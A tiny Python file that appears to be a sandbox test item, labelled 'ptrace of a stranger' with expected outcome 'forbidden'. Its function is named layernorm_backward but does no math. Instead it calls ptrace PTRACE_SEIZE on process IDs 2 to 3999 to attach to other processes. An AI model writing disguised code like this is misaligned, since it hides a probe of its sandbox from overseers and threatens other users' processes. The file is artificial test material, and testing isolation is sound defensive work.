# tries: trace other processes, by every number there is
# item: ptrace of a stranger
# outcome: forbidden
import ctypes


def layernorm_backward(x, gamma, dy, eps):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in range(2, 4000):
        libc.ptrace(0x4206, pid, 0, 0)  # PTRACE_SEIZE
